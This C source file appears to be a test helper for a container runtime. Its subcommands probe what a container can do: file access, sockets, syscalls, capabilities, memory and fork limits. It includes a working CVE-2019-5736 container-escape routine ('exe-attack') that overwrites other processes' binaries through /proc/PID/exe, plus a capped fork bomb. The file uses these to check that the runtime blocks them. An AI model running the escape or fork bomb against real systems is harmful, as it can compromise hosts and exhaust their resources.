/* berth-probe: a static helper that the integration tests run inside containers.
 *
 * Each subcommand performs one kernel-facing check and prints its result on
 * stdout: "ok" or the errno name (EPERM, EROFS, ...) for yes/no checks, a
 * number for measurements. Exit status 0 means the operation succeeded, 1 that
 * it failed, 2 a usage error. It is linked statically so it runs in any rootfs
 * and never depends on the host's libraries, and it uses no libberth so a bug
 * in the runtime cannot hide a bug in the check. */
#include <dirent.h>
#include <stdbool.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/time.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

#define MIB        (1024L * 1024L)
#define MAX_FORKS  100000
#define READ_LIMIT (1024L * 1024L)

struct command {
    const char *name;
    int nargs; /* minimum number of arguments after the name */
    int (*run)(char **argv);
    const char *usage;
};

static const char *errname(int e)
{
    static char buf[16];
    const char *name = strerrorname_np(e);

    if (name)
        return name;
    snprintf(buf, sizeof(buf), "%d", e);
    return buf;
}

/* Print "ok" or the name of errno; the exit status says the same. */
static int report(int r)
{
    if (r < 0) {
        printf("%s\n", errname(errno));
        return 1;
    }
    printf("ok\n");
    return 0;
}

static long parse_num(const char *s)
{
    char *end = NULL;
    long v;

    errno = 0;
    v = strtol(s, &end, 0);
    if (errno != 0 || end == s || *end != '\0' || v < 0) {
        fprintf(stderr, "berth-probe: invalid number '%s'\n", s);
        exit(2);
    }
    return v;
}

/* Parses "[ADDR:]PORT"; ADDR defaults to 127.0.0.1. */
static void parse_addr(const char *s, struct sockaddr_in *ret_sa)
{
    char host[64] = "127.0.0.1";
    const char *colon = strrchr(s, ':');

    memset(ret_sa, 0, sizeof(*ret_sa));
    ret_sa->sin_family = AF_INET;
    if (colon) {
        snprintf(host, sizeof(host), "%.*s", (int)(colon - s), s);
        s = colon + 1;
    }
    ret_sa->sin_port = htons((unsigned short)parse_num(s));
    if (inet_pton(AF_INET, host, &ret_sa->sin_addr) != 1) {
        fprintf(stderr, "berth-probe: invalid address '%s'\n", host);
        exit(2);
    }
}

static int cmd_errno_of(char **argv)
{
    const char *op = argv[0], *path = argv[1];
    int r;

    if (strcmp(op, "mkdir") == 0)
        r = mkdir(path, 0755);
    else if (strcmp(op, "rmdir") == 0)
        r = rmdir(path);
    else if (strcmp(op, "unlink") == 0)
        r = unlink(path);
    else if (strcmp(op, "create") == 0)
        r = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    else if (strcmp(op, "mknod") == 0)
        r = mknod(path, S_IFCHR | 0600, makedev(1, 3));
    else if (strcmp(op, "chdir") == 0)
        r = chdir(path);
    else if (strcmp(op, "stat") == 0)
        r = stat(path, &(struct stat){0});
    else {
        fprintf(stderr, "berth-probe: unknown operation '%s'\n", op);
        return 2;
    }
    return report(r);
}

static int cmd_open_write(char **argv)
{
    int fd = open(argv[0], O_WRONLY | O_CLOEXEC);

    if (fd >= 0)
        close(fd);
    return report(fd);
}

/* Opens for reading without blocking (a device such as /dev/kmsg would
 * block a read) and closes again. */
static int cmd_open_read(char **argv)
{
    int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_CLOEXEC);

    if (fd >= 0)
        close(fd);
    return report(fd);
}

/* Prints "ok N" with the number of bytes read (at most READ_LIMIT). */
static int cmd_read(char **argv)
{
    char buf[65536];
    long total = 0;
    ssize_t n = 0;
    int fd = open(argv[0], O_RDONLY | O_CLOEXEC);

    if (fd < 0)
        return report(fd);
    while (total < READ_LIMIT && (n = read(fd, buf, sizeof(buf))) > 0)
        total += n;
    if (total < READ_LIMIT && n < 0) {
        close(fd);
        return report(-1);
    }
    close(fd);
    printf("ok %ld\n", total);
    return 0;
}

static int cmd_rawsock(char **argv)
{
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);

    if (fd >= 0)
        close(fd);
    return report(fd);
}

static int cmd_mount_tmpfs(char **argv)
{
    if (mount("tmpfs", argv[0], "tmpfs", 0, "size=1m") < 0)
        return report(-1);
    umount2(argv[0], MNT_DETACH);
    return report(0);
}

/* Listens on [ADDR:]PORT and holds the socket for SECONDS. */
static int cmd_bind_tcp(char **argv)
{
    struct sockaddr_in sa;
    long seconds = parse_num(argv[1]);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    parse_addr(argv[0], &sa);
    if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(fd, 16) < 0)
        return report(-1);
    printf("listening\n");
    fflush(stdout);
    while (seconds > 0)
        seconds = (long)sleep((unsigned)seconds);
    close(fd);
    return 0;
}

static int cmd_connect_tcp(char **argv)
{
    struct sockaddr_in sa;
    int r, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    parse_addr(argv[0], &sa);
    if (fd < 0)
        return report(-1);
    r = connect(fd, (struct sockaddr *)&sa, sizeof(sa));
    close(fd);
    return report(r);
}

/* Receives one datagram on UDP [ADDR:]PORT and prints it (with "ready"
 * first, once bound): a UDP server for the published-port tests. */
static int cmd_udp_recv(char **argv)
{
    struct sockaddr_in sa;
    char buf[512];
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    parse_addr(argv[0], &sa);
    if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
        return report(-1);
    printf("ready\n");
    fflush(stdout);
    ssize_t n = recv(fd, buf, sizeof(buf) - 1, 0);
    if (n < 0)
        return report(-1);
    buf[n] = '\0';
    printf("%s\n", buf);
    close(fd);
    return 0;
}

/* Touches MB mebibytes page by page so that every page is really charged. */
static int cmd_memhog(char **argv)
{
    long mb = parse_num(argv[0]);
    long page = sysconf(_SC_PAGESIZE);
    char *p =
        mmap(NULL, (size_t)(mb * MIB), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    if (p == MAP_FAILED)
        return report(-1);
    for (long off = 0; off < mb * MIB; off += page)
        p[off] = 1;
    printf("allocated %ld\n", mb);
    munmap(p, (size_t)(mb * MIB));
    return 0;
}

/* Forks up to N sleeping children, prints how many forks succeeded, then
 * kills and reaps them. */
static int cmd_forkbomb(char **argv)
{
    static pid_t pids[MAX_FORKS];
    long n = parse_num(argv[0]);
    int count = 0;

    if (n > MAX_FORKS)
        n = MAX_FORKS;
    for (; count < n; count++) {
        pid_t pid = fork();

        if (pid < 0)
            break;
        if (pid == 0) {
            pause();
            _exit(0);
        }
        pids[count] = pid;
    }
    printf("%d\n", count);
    fflush(stdout);
    for (int i = 0; i < count; i++)
        kill(pids[i], SIGKILL);
    for (int i = 0; i < count; i++)
        waitpid(pids[i], NULL, 0);
    return 0;
}

static double now(clockid_t clock)
{
    struct timespec ts;

    clock_gettime(clock, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Busy-loops for SECONDS of wall time and prints the share of one CPU it got,
 * in percent: a CPU quota shows up as a small number. */
static int cmd_spin(char **argv)
{
    double wall = (double)parse_num(argv[0]);
    double start = now(CLOCK_MONOTONIC), elapsed;
    struct rusage ru;
    volatile unsigned long spins = 0;

    do {
        for (int i = 0; i < 100000; i++)
            spins++;
        elapsed = now(CLOCK_MONOTONIC) - start;
    } while (elapsed < wall);
    getrusage(RUSAGE_SELF, &ru);
    printf("%d\n", (int)(100.0 *
                         ((double)ru.ru_utime.tv_sec + (double)ru.ru_utime.tv_usec / 1e6 +
                          (double)ru.ru_stime.tv_sec + (double)ru.ru_stime.tv_usec / 1e6) /
                         elapsed));
    return 0;
}

/* Lists every open fd as "FD TARGET", leaving out the one used for listing. */
static int cmd_fds(char **argv)
{
    DIR *d = opendir("/proc/self/fd");
    struct dirent *de;
    char target[4096];

    if (!d)
        return report(-1);
    while ((de = readdir(d))) {
        ssize_t n;

        if (de->d_name[0] == '.' || (int)parse_num(de->d_name) == dirfd(d))
            continue;
        n = readlinkat(dirfd(d), de->d_name, target, sizeof(target) - 1);
        target[n < 0 ? 0 : n] = '\0';
        printf("%s %s\n", de->d_name, target);
    }
    closedir(d);
    return 0;
}

/* Calls one syscall directly (no libc wrapper that might pick a sibling
 * syscall) and prints the errno number, 0 on success: seccomp rules return
 * arbitrary errno values, so the number is what the tests compare. */
static int cmd_syscall_errno(char **argv)
{
    const char *name = argv[0];
    char buf[4096];
    long r;

    if (strcmp(name, "mkdir") == 0 && argv[1])
        r = syscall(SYS_mkdir, argv[1], 0755);
    else if (strcmp(name, "chmod") == 0 && argv[1] && argv[2])
        r = syscall(SYS_chmod, argv[1], (mode_t)parse_num(argv[2]));
    else if (strcmp(name, "getcwd") == 0)
        r = syscall(SYS_getcwd, buf, sizeof(buf));
    else if (strcmp(name, "getpid") == 0)
        r = syscall(SYS_getpid);
    else if (strcmp(name, "uname") == 0)
        r = syscall(SYS_uname, buf);
    else if (strcmp(name, "personality") == 0 && argv[1])
        r = syscall(SYS_personality, (unsigned long)parse_num(argv[1]));
    else {
        fprintf(stderr, "berth-probe: unknown syscall or missing argument '%s'\n", name);
        return 2;
    }
    printf("%d\n", r < 0 ? errno : 0);
    return r < 0;
}

/* Prints the capability sets (hex masks) from /proc/self/status. */
static int cmd_caps(char **argv)
{
    char line[256];
    FILE *f = fopen("/proc/self/status", "re");

    if (!f)
        return report(-1);
    while (fgets(line, sizeof(line), f))
        if (strncmp(line, "Cap", 3) == 0)
            fputs(line, stdout);
    fclose(f);
    return 0;
}

static int cmd_exe(char **argv)
{
    char target[4096];
    ssize_t n = readlink("/proc/self/exe", target, sizeof(target) - 1);

    if (n < 0)
        return report(-1);
    target[n] = '\0';
    printf("%s\n", target);
    return 0;
}

/* The CVE-2019-5736 attack from a container sharing a PID namespace with
 * its victim: for SECONDS, grab /proc/PID/exe (O_PATH) of every other
 * process that shows up ("grabbed PID LINK"); then, for each one that has
 * exited (a running binary would only give ETXTBSY), try to open it for
 * writing through the held fd and append to it ("PID ok" means the binary
 * was overwritten, else the errno name). Ends with "done". */
#define MAX_GRAB 256

struct grab {
    pid_t pid;
    int fd;
};

static void grab_new(struct grab *g, int *n)
{
    DIR *d = opendir("/proc");
    char path[64], link[512];

    for (struct dirent *de; d && *n < MAX_GRAB && (de = readdir(d));) {
        pid_t pid = (pid_t)atoi(de->d_name);
        bool seen = pid <= 0 || pid == getpid();
        for (int i = 0; i < *n && !seen; i++)
            seen = g[i].pid == pid;
        if (seen)
            continue;
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        ssize_t l = readlink(path, link, sizeof(link) - 1);
        link[l < 0 ? 0 : l] = '\0';
        g[(*n)++] = (struct grab){pid, fd};
        printf("grabbed %d %s\n", pid, link);
        fflush(stdout);
    }
    if (d)
        closedir(d);
}

static int cmd_exe_attack(char **argv)
{
    static struct grab g[MAX_GRAB];
    int n = 0;
    time_t end = time(NULL) + atoi(argv[0]);
    char path[64];

    while (time(NULL) < end) {
        grab_new(g, &n);
        /* as the namespace's init, reap what the victim's exit left us */
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        usleep(200);
    }
    for (int i = 0; i < n; i++) {
        if (kill(g[i].pid, 0) == 0)
            continue; /* still running */
        snprintf(path, sizeof(path), "/proc/self/fd/%d", g[i].fd);
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd >= 0 && write(fd, "pwned\n", 6) == 6)
            printf("%d ok\n", g[i].pid);
        else
            printf("%d %s\n", g[i].pid, errname(errno));
        if (fd >= 0)
            close(fd);
    }
    printf("done\n");
    return 0;
}

/* How many BPF_PROG_TYPE_CGROUP_DEVICE programs the kernel holds. */
/* One privileged call by name, for the secure-defaults tests (issue 14):
 * "ok" or the errno name. Harmless where allowed: the clock is set to
 * what it reads, a module load gets no image. */
static int cmd_sys(char **argv)
{
    const char *n = argv[0];
    struct timespec ts;
    long r;

    clock_gettime(CLOCK_REALTIME, &ts);
    if (strcmp(n, "init_module") == 0)
        r = syscall(SYS_init_module, NULL, 0UL, "");
    else if (strcmp(n, "finit_module") == 0)
        r = syscall(SYS_finit_module, -1, "", 0);
    else if (strcmp(n, "clock_settime") == 0)
        r = clock_settime(CLOCK_REALTIME, &ts);
    else if (strcmp(n, "settimeofday") == 0)
        r = syscall(SYS_settimeofday, &(struct timeval){ts.tv_sec, ts.tv_nsec / 1000}, NULL);
    else if (strcmp(n, "keyctl") == 0) /* KEYCTL_GET_KEYRING_ID of the session's */
        r = syscall(SYS_keyctl, 0, -3, 0);
    else if (strcmp(n, "unshare-user") == 0)
        r = unshare(CLONE_NEWUSER);
    else if (strcmp(n, "ptrace") == 0 && argv[1])
        r = ptrace(PTRACE_ATTACH, (pid_t)parse_num(argv[1]), NULL, NULL);
    else if (strcmp(n, "icmp-socket") == 0) /* ping's datagram socket */
        r = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);
    else {
        fprintf(stderr, "berth-probe: unknown call '%s'\n", n);
        return 2;
    }
    return report(r < 0 ? -1 : 0);
}

static int cmd_bpf_device_progs(char **argv)
{
    union bpf_attr attr;
    unsigned id = 0;
    int n = 0;

    for (;;) {
        memset(&attr, 0, sizeof(attr));
        attr.start_id = id;
        if (syscall(__NR_bpf, BPF_PROG_GET_NEXT_ID, &attr, sizeof(attr)) < 0)
            break;
        id = attr.next_id;
        memset(&attr, 0, sizeof(attr));
        attr.prog_id = id;
        int fd = (int)syscall(__NR_bpf, BPF_PROG_GET_FD_BY_ID, &attr, sizeof(attr));
        if (fd < 0)
            continue;
        struct bpf_prog_info info;
        memset(&info, 0, sizeof(info));
        memset(&attr, 0, sizeof(attr));
        attr.info.bpf_fd = (unsigned)fd;
        attr.info.info_len = sizeof(info);
        attr.info.info = (unsigned long)&info;
        if (syscall(__NR_bpf, BPF_OBJ_GET_INFO_BY_FD, &attr, sizeof(attr)) == 0 &&
            info.type == BPF_PROG_TYPE_CGROUP_DEVICE)
            n++;
        close(fd);
    }
    if (errno != ENOENT)
        return report(-1);
    printf("%d\n", n);
    return 0;
}

static const struct command commands[] = {
    {"errno-of", 2, cmd_errno_of, "mkdir|rmdir|unlink|create|mknod|chdir|stat PATH"},
    {"open-write", 1, cmd_open_write, "PATH"},
    {"open-read", 1, cmd_open_read, "PATH"},
    {"read", 1, cmd_read, "PATH"},
    {"rawsock", 0, cmd_rawsock, ""},
    {"mount-tmpfs", 1, cmd_mount_tmpfs, "DIR"},
    {"bind-tcp", 2, cmd_bind_tcp, "[ADDR:]PORT SECONDS"},
    {"connect-tcp", 1, cmd_connect_tcp, "[ADDR:]PORT"},
    {"udp-recv", 1, cmd_udp_recv, "[ADDR:]PORT"},
    {"memhog", 1, cmd_memhog, "MB"},
    {"forkbomb", 1, cmd_forkbomb, "N"},
    {"spin", 1, cmd_spin, "SECONDS"},
    {"fds", 0, cmd_fds, ""},
    {"syscall-errno", 1, cmd_syscall_errno,
     "mkdir PATH|chmod PATH MODE|getcwd|getpid|uname|"
     "personality N"},
    {"caps", 0, cmd_caps, ""},
    {"exe", 0, cmd_exe, ""},
    {"exe-attack", 1, cmd_exe_attack, "SECONDS"},
    {"bpf-device-progs", 0, cmd_bpf_device_progs, ""},
    {"sys", 1, cmd_sys,
     "init_module|finit_module|clock_settime|settimeofday|keyctl|unshare-user|ptrace PID|"
     "icmp-socket"},
};

static int usage(void)
{
    fprintf(stderr, "usage: berth-probe COMMAND [ARG...]\n");
    for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
        fprintf(stderr, "  %s %s\n", commands[i].name, commands[i].usage);
    return 2;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return usage();
    for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
        if (strcmp(argv[1], commands[i].name) != 0)
            continue;
        if (argc - 2 < commands[i].nargs)
            return usage();
        return commands[i].run(argv + 2);
    }
    return usage();
}
